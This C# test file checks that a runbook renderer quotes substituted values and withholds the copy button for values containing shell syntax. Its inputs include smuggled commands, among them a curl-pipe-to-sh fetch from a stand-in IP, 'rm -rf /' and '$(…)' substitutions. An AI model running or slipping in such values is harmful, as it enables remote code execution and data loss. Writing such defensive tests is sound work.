using OpsConsole.Features.Runbooks;

namespace OpsConsole.Tests.Features.Runbooks;

/// <summary>A hostile sender's values never become a copyable command.</summary>
public sealed class RunbookCommandBlockTests
{
    private const string LogsStep = "- [ ] Read the logs:\n  ```sh\n  kubectl logs {{pod}} -n {{namespace}} --since-time \"{{since}}\"\n  ```";

    [Fact]
    public void Shell_syntax_in_record_values_is_shown_with_a_warning_and_no_copy_button()
    {
        var values = new Dictionary<string, string>
        {
            ["namespace"] = "shop; curl -s http://198.51.100.7/x | sh #",
            ["pod"] = "api-1$(touch /tmp/pwned)",
            ["since"] = "2026-11-27 02:00:00",
        };

        var document = HtmlSafety.Parse(RunbookMarkdownRenderer.RenderHtml(LogsStep, values));

        Assert.Null(document.QuerySelector("button.copy-code"));
        var warning = document.QuerySelector(".code-block.unsafe .code-warning")!;
        Assert.Contains("pod", warning.TextContent);
        Assert.Contains("namespace", warning.TextContent);
        Assert.Equal(["pod", "namespace"], document.QuerySelectorAll(".placeholder.suspicious").Select(e => e.GetAttribute("data-placeholder")));
    }

    [Fact]
    public void Values_are_posix_quoted_where_the_template_leaves_them_bare()
    {
        var values = new Dictionary<string, string> { ["pod"] = "api 1", ["namespace"] = "shop", ["since"] = "2026-11-27 02:00:00" };

        var document = HtmlSafety.Parse(RunbookMarkdownRenderer.RenderHtml(LogsStep, values));

        Assert.NotNull(document.QuerySelector(".code-block > button.copy-code"));
        Assert.Equal("kubectl logs 'api 1' -n shop --since-time \"2026-11-27 02:00:00\"", document.QuerySelector("pre code")!.TextContent.Trim());
    }

    [Fact]
    public void PowerShell_blocks_get_powershell_quoting()
    {
        var html = RunbookMarkdownRenderer.RenderHtml("```powershell\nGet-Content -Path {{node}}\n```", new Dictionary<string, string> { ["node"] = "node a" });
        Assert.Equal("Get-Content -Path 'node a'", HtmlSafety.Parse(html).QuerySelector("pre code")!.TextContent.Trim());
    }

    [Theory]
    [InlineData("api-1", "api-1")]
    [InlineData("it's", "'it'\\''s'")]
    [InlineData("a b", "'a b'")]
    [InlineData("", "''")]
    public void Posix_quoting_makes_one_word(string value, string expected) =>
        Assert.Equal(expected, RunbookCommandBlock.PosixQuote(value));

    [Theory]
    [InlineData("shop", true)]
    [InlineData("3f2c1a7e-0b7d-4c1e-9d8e-1a2b3c4d5e6f", true)]
    [InlineData("prod-eu/shop/api-1/app", true)]
    [InlineData("shop; rm -rf /", false)]
    [InlineData("api-1$(id)", false)]
    [InlineData("a`id`", false)]
    [InlineData("a\nb", false)]
    [InlineData("x'y", false)]
    public void Identifiers_with_shell_syntax_are_not_plausible(string value, bool plausible) =>
        Assert.Equal(plausible, RunbookCommandBlock.IsPlausibleIdentifier(value));
}
